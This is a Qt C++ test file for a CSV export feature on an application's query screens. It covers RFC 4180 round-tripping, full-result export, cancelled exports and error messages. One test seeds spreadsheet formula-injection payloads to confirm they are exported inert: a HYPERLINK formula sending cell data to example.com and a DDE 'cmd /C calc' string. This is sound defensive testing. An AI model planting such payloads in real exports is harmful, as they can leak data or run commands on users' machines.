// "匯出..." on the query screens: the whole result as CSV, read back with a strict RFC 4180
// reader written here, apart from the writer it checks.
#include "app/mainform.h"
#include "app/startup.h"
#include "controls/dbgrid.h"
#include "controls/guard.h"
#include "data/book/database.h"
#include "data/book/shortdate.h"
#include "data/records/sqlquery.h"
#include "lookup/csvexport.h"
#include "lookup/queryscreen.h"
#include "testsupport/modalanswer.h"
#include "testsupport/screenparts.h"
#include "testsupport/filedialog.h"
#include "testsupport/testdatabase.h"
#include "testsupport/whenshown.h"

#include <QAction>
#include <QApplication>
#include <QComboBox>
#include <QDir>
#include <QFile>
#include <QFileDialog>
#include <QFileInfo>
#include <QLineEdit>
#include <QPushButton>
#include <QSqlQuery>
#include <QSqlRecord>
#include <QTemporaryDir>
#include <QTest>

#include <memory>
#include <optional>

using namespace tb;
using tb::test::ModalAnswer;
using namespace tb::test;
using tb::test::WhenShown;

namespace {

using Records = QList<QStringList>;

// RFC 4180, strictly: CR LF after every record, quotes only around a whole field, a quote
// inside one doubled. Nothing for a text that breaks a rule.
std::optional<Records> readCsv(const QString &text)
{
    Records records;
    QStringList record;
    QString field;
    bool quoted = false, wasQuoted = false;
    for (qsizetype i = 0; i < text.size(); ++i) {
        const QChar c = text.at(i), next = i + 1 < text.size() ? text.at(i + 1) : QChar();
        if (quoted) {
            if (c != QLatin1Char('"'))
                field += c;
            else if (next == QLatin1Char('"'))
                field += text.at(++i);
            else
                quoted = false;
        } else if (c == QLatin1Char('"')) {
            if (!field.isEmpty() || wasQuoted)
                return std::nullopt;
            quoted = wasQuoted = true;
        } else if (c == QLatin1Char(',') || (c == QLatin1Char('\r') && next == '\n')) {
            record << field;
            field.clear();
            wasQuoted = false;
            if (c == QLatin1Char('\r')) {
                ++i;
                records << record;
                record.clear();
            }
        } else if (wasQuoted || c == QLatin1Char('\r') || c == QLatin1Char('\n')) {
            return std::nullopt;
        } else {
            field += c;
        }
    }
    if (quoted || !field.isEmpty() || !record.isEmpty())
        return std::nullopt; // the last record has no CR LF
    return records;
}

struct Screen
{
    QString query, menu, maintenance, insert;
};

const QList<Screen> Screens = {
    {"R_product", "N1", "Product", "INSERT INTO Product (ProductID) VALUES ('PR000001')"},
    {"R_customer", "N2", "Customer", "INSERT INTO Customer (CustomerID) VALUES ('CU000001')"},
    {"R_Supplier", "N3", "Supplier", "INSERT INTO Supplier (SupplierID) VALUES ('SU000001')"},
    {"R_employee", "N4", "employee", "INSERT INTO Employee (EmployeeID) VALUES ('EM000001')"},
    {"R_Department", "N5", "department",
     "INSERT INTO Department (DepartmentID) VALUES ('DE0001')"},
    {"R_Unit", "N25", "punit", "INSERT INTO Unit (UnitID) VALUES ('UN0001')"},
    {"R_Type", "N26", "ProductType", "INSERT INTO ProductType (TypeID) VALUES ('TY0001')"},
    {"R_Duty", "N6", "Duty", "INSERT INTO Duty (DutyID) VALUES ('DU0001')"},
    {"R_Color", "N28", "Pcolor", "INSERT INTO Color (ColorID) VALUES ('CO0001')"},
};

QWidget *window(const QString &name)
{
    for (QWidget *w : QApplication::topLevelWidgets())
        if (w->objectName() == name)
            return w;
    qFatal("no window %s", qPrintable(name));
}

// The menu entry, then "查詢" on the maintenance screen, as a user opens a query screen.
QueryScreen *openQuery(const Screen &s)
{
    main->findChild<QAction *>(s.menu)->trigger();
    QTest::mouseClick(window(s.maintenance)->findChild<QAbstractButton *>("sbRefresh"),
                      Qt::LeftButton);
    auto *screen = qobject_cast<QueryScreen *>(window(s.query));
    if (!screen || !screen->isVisible())
        qFatal("%s did not open", qPrintable(s.query));
    return screen;
}

void search(QueryScreen *screen, const QString &value)
{
    valueBox(screen)->setText(value);
    QTest::mouseClick(named<QPushButton>(screen, "Button1"), Qt::LeftButton);
}

QString readFile(const QString &path, QByteArray *head = nullptr)
{
    QFile file(path);
    if (!file.open(QIODevice::ReadOnly))
        return {};
    const QByteArray bytes = file.readAll();
    if (head)
        *head = bytes.left(3);
    return QString::fromUtf8(bytes.mid(3));
}

// Every product as the CSV must hold it: stored text, digits, ISO dates, empty for null.
Records productsFromDatabase()
{
    Records rows;
    QSqlQuery q = Database::exec(Database::connection(),
                                 QStringLiteral("SELECT * FROM Product ORDER BY ProductID"));
    while (q.next()) {
        QStringList row;
        for (int c = 0; c < q.record().count(); ++c)
            row << (q.isNull(c) ? QString() : q.value(c).toString());
        rows << row;
    }
    return rows;
}

} // namespace

class TestCsvExport : public QObject
{
    Q_OBJECT
private slots:
    void initTestCase();
    void cleanupTestCase();
    void init();
    void cleanup();

    void exportButtonFollowsTheResult_data();
    void exportButtonFollowsTheResult();
    void awkwardTextReadsBackCellForCell();
    void wholeResultNotOnlyTheRowsOnScreen();
    void stoppedExportLeavesNoFile();
    void unwritableFileSaysWhy();
    void formulaTextMadeInert();

private:
    QueryScreen *productQuery();

    QTemporaryDir m_home;
    std::unique_ptr<test::TestDatabase> m_db;
};

void TestCsvExport::initTestCase()
{
    qputenv("HOME", m_home.path().toLocal8Bit());
    qputenv("XDG_CONFIG_HOME", m_home.filePath(QStringLiteral("config")).toLocal8Bit());
    qunsetenv("XDG_DOCUMENTS_DIR");
    QDir(m_home.path()).mkpath(QStringLiteral("Documents"));
    ShortDate::setPattern(QStringLiteral("yyyy/MM/dd"));
    m_db = std::make_unique<test::TestDatabase>();
    QVERIFY(startUp());
    main->show();
}

void TestCsvExport::cleanupTestCase()
{
    shutDown();
    m_db.reset();
}

void TestCsvExport::init()
{
    for (const char *table : {"Product", "Customer", "Supplier", "Employee", "Department",
                              "Unit", "ProductType", "Duty", "Color"})
        m_db->exec(QStringLiteral("DELETE FROM ") + QLatin1String(table));
}

void TestCsvExport::cleanup()
{
    for (const Screen &s : Screens)
        query(window(s.query))->Close();
    for (QWidget *w : QApplication::topLevelWidgets())
        if (w != main)
            w->hide();
    main->show();
}

QueryScreen *TestCsvExport::productQuery()
{
    return openQuery(Screens.first());
}

void TestCsvExport::exportButtonFollowsTheResult_data()
{
    QTest::addColumn<int>("index");
    for (int i = 0; i < Screens.size(); ++i)
        QTest::newRow(qPrintable(Screens[i].query)) << i;
}

void TestCsvExport::exportButtonFollowsTheResult()
{
    QFETCH(int, index);
    const Screen &s = Screens[index];
    m_db->exec(s.insert);
    QueryScreen *screen = openQuery(s);
    QPushButton *button = screen->findChild<QPushButton *>(QStringLiteral("Button3"));
    QVERIFY(button);
    QCOMPARE(button->text(), QStringLiteral("匯出..."));
    const QRect r = button->geometry();
    QVERIFY(r.right() < screen->width() && r.bottom() < grid(screen)->geometry().top());
    for (QWidget *other : {static_cast<QWidget *>(named<QPushButton>(screen, "Button1")),
                           static_cast<QWidget *>(named<QPushButton>(screen, "Button2")),
                           static_cast<QWidget *>(valueBox(screen)),
                           static_cast<QWidget *>(columnBox(screen))})
        QVERIFY2(!r.intersects(other->geometry()), qPrintable(other->objectName()));

    QVERIFY(!button->isEnabled());
    search(screen, QString());
    QVERIFY(button->isEnabled());
    search(screen, QStringLiteral("none such"));
    QVERIFY(!button->isEnabled()); // an empty result has nothing to export
    search(screen, QString());
    QTest::mouseClick(named<QPushButton>(screen, "Button2"), Qt::LeftButton);
    // The employee screen keeps its result open under "取消".
    QCOMPARE(button->isEnabled(), s.query == QLatin1String("R_employee"));
}

void TestCsvExport::awkwardTextReadsBackCellForCell()
{
    const QStringList names = {
        QStringLiteral("磁磚,30x60"), QStringLiteral("\"特級\"拋光石英磚"),
        QStringLiteral("第一行\n第二行"), QStringLiteral("a\r\nb, \"c\""),
        QStringLiteral(" 前後空白 ")};
    for (int i = 0; i < names.size(); ++i)
        m_db->exec(QStringLiteral("INSERT INTO Product VALUES (?, ?, '地磚,石材', '片', ?, ?, "
                                  "0, 1200, NULL, 0, ?, NULL)"),
                   {QStringLiteral("PR%1").arg(i + 1, 6, 10, QLatin1Char('0')), names[i],
                    i % 2 ? QVariant() : QVariant(QStringLiteral("米白")), -5 + i,
                    QStringLiteral("2024-0%1-2%1").arg(i + 1)});
    QueryScreen *screen = productQuery();
    search(screen, QString());

    const QString path = m_home.filePath(QStringLiteral("products.csv"));
    QString proposed;
    std::optional<ModalAnswer> message;
    WhenShown<QFileDialog> files([&](QFileDialog *dialog) {
        proposed = dialog->selectedFiles().value(0);
        message.emplace(QMessageBox::Ok);
        test::saveAs(dialog, path);
    });
    QTest::mouseClick(named<QPushButton>(screen, "Button3"), Qt::LeftButton);
    QVERIFY(files.done());
    QCOMPARE(proposed, m_home.filePath(QStringLiteral("Documents/商品查詢.csv")));
    QVERIFY(message && message->seen() == 1);
    QCOMPARE(message->text(),
             QStringLiteral("已匯出 5 筆資料至 %1。").arg(QDir::toNativeSeparators(path)));

    QByteArray head;
    const std::optional<Records> records = readCsv(readFile(path, &head));
    QCOMPARE(head, QByteArray("\xEF\xBB\xBF"));
    QVERIFY(records);
    QStringList titles;
    for (int c = 0; c < grid(screen)->model()->columnCount(); ++c)
        titles << grid(screen)->model()->headerData(c, Qt::Horizontal).toString();
    QCOMPARE(records->value(0), titles);
    QCOMPARE(records->mid(1), productsFromDatabase());
    QCOMPARE(records->value(1).value(10), QStringLiteral("2024-01-21")); // ISO, not 2024/01/21
}

void TestCsvExport::wholeResultNotOnlyTheRowsOnScreen()
{
    const int count = 2 * CsvExport::PageRows + 345;
    QSqlDatabase db = Database::connection();
    db.transaction();
    for (int i = 1; i <= count; ++i)
        m_db->exec(QStringLiteral("INSERT INTO Product (ProductID, ProductName, Stock) "
                                  "VALUES (?, ?, ?)"),
                   {QStringLiteral("PR%1").arg(i, 6, 10, QLatin1Char('0')),
                    QStringLiteral("商品 %1").arg(i), i});
    db.commit();
    QueryScreen *screen = productQuery();
    search(screen, QString());
    QCOMPARE(query(screen)->ResultCount(), qint64(count));
    QVERIFY(grid(screen)->loadedRowCount() < count);

    const QString path = m_home.filePath(QStringLiteral("all.csv"));
    ModalAnswer message(QMessageBox::Ok);
    screen->exportTo(path);
    QVERIFY(message.text().startsWith(QStringLiteral("已匯出 2,345 筆資料")));
    const std::optional<Records> records = readCsv(readFile(path));
    QVERIFY(records);
    QCOMPARE(records->size(), count + 1);
    for (int i = 1; i <= count; ++i) {
        const QStringList &row = records->at(i);
        QCOMPARE(row.value(0), QStringLiteral("PR%1").arg(i, 6, 10, QLatin1Char('0')));
        QCOMPARE(row.value(5), QString::number(i));
    }
}

void TestCsvExport::stoppedExportLeavesNoFile()
{
    for (int i = 1; i <= CsvExport::PageRows + 1; ++i)
        m_db->exec(QStringLiteral("INSERT INTO Product (ProductID) VALUES (?)"),
                   {QStringLiteral("PR%1").arg(i, 6, 10, QLatin1Char('0'))});
    QueryScreen *screen = productQuery();
    search(screen, QString());
    const CsvExport exporter(*query(screen), CsvExport::gridColumns(*grid(screen)));

    const QTemporaryDir folder;
    const QString fresh = folder.filePath(QStringLiteral("fresh.csv"));
    qint64 seen = 0;
    const auto stopAfterFirstPage = [&seen](qint64 rows) {
        seen = rows;
        return false;
    };
    QVERIFY(!exporter.save(fresh, stopAfterFirstPage));
    QCOMPARE(seen, qint64(CsvExport::PageRows));
    QVERIFY(!QFileInfo::exists(fresh));

    const QString earlier = folder.filePath(QStringLiteral("earlier.csv"));
    QFile file(earlier);
    QVERIFY(file.open(QIODevice::WriteOnly));
    file.write("kept");
    file.close();
    QVERIFY(!exporter.save(earlier, stopAfterFirstPage));
    QFile again(earlier);
    QVERIFY(again.open(QIODevice::ReadOnly));
    QCOMPARE(again.readAll(), QByteArray("kept"));
    QCOMPARE(QDir(folder.path()).entryList(QDir::Files),
             QStringList{QStringLiteral("earlier.csv")}); // no temporary file left either
}

void TestCsvExport::unwritableFileSaysWhy()
{
    m_db->exec(Screens.first().insert);
    QueryScreen *screen = productQuery();
    search(screen, QString());
    const QString path = m_home.filePath(QStringLiteral("no such folder/products.csv"));
    ModalAnswer error(QMessageBox::Ok);
    runGuarded([&] { screen->exportTo(path); }); // as the button's handler runs
    QCOMPARE(error.seen(), 1);
    QVERIFY2(error.text().startsWith(QStringLiteral("無法寫入檔案 %1:\n")
                                         .arg(QDir::toNativeSeparators(path))),
             qPrintable(error.text()));
    QVERIFY(!QFileInfo::exists(path));
}

// A spreadsheet runs a cell that begins like a formula when the file is opened: such text
// goes out behind an apostrophe, numbers (negative ones too) as they are.
void TestCsvExport::formulaTextMadeInert()
{
    const QStringList names = {
        QStringLiteral("=HYPERLINK(\"http://example.com/?\"&A1,\"點我\")"),
        QStringLiteral("@SUM(1+1)*cmd|' /C calc'!A0"), QStringLiteral("+886-2-2700-1234"),
        QStringLiteral("-10% 特價"), QStringLiteral("\t=1+1"), QStringLiteral("\r=1+1"),
        QStringLiteral("磁磚 =1+1")};
    for (int i = 0; i < names.size(); ++i)
        m_db->exec(QStringLiteral("INSERT INTO Product VALUES (?, ?, '地磚', '片', '@米白', ?, "
                                  "0, 1200, NULL, 0, '2024-01-21', NULL)"),
                   {QStringLiteral("PR%1").arg(i + 1, 6, 10, QLatin1Char('0')), names[i],
                    -5 + i});
    QueryScreen *screen = productQuery();
    search(screen, QString());
    const QString path = m_home.filePath(QStringLiteral("formulas.csv"));
    ModalAnswer done(QMessageBox::Ok);
    runGuarded([&] { screen->exportTo(path); });
    QCOMPARE(done.seen(), 1);

    const std::optional<Records> records = readCsv(readFile(path));
    QVERIFY(records);
    Records expected = productsFromDatabase();
    for (int i = 0; i < names.size(); ++i) {
        QStringList &row = expected[i];
        if (i + 1 < names.size())
            row[1] = QLatin1Char('\'') + row[1];
        row[4] = QStringLiteral("'@米白");
        QCOMPARE(row[5], QString::number(-5 + i)); // a number, not text: as it is
    }
    QCOMPARE(records->mid(1), expected);
}

QTEST_MAIN(TestCsvExport)
#include "tst_csvexport.moc"
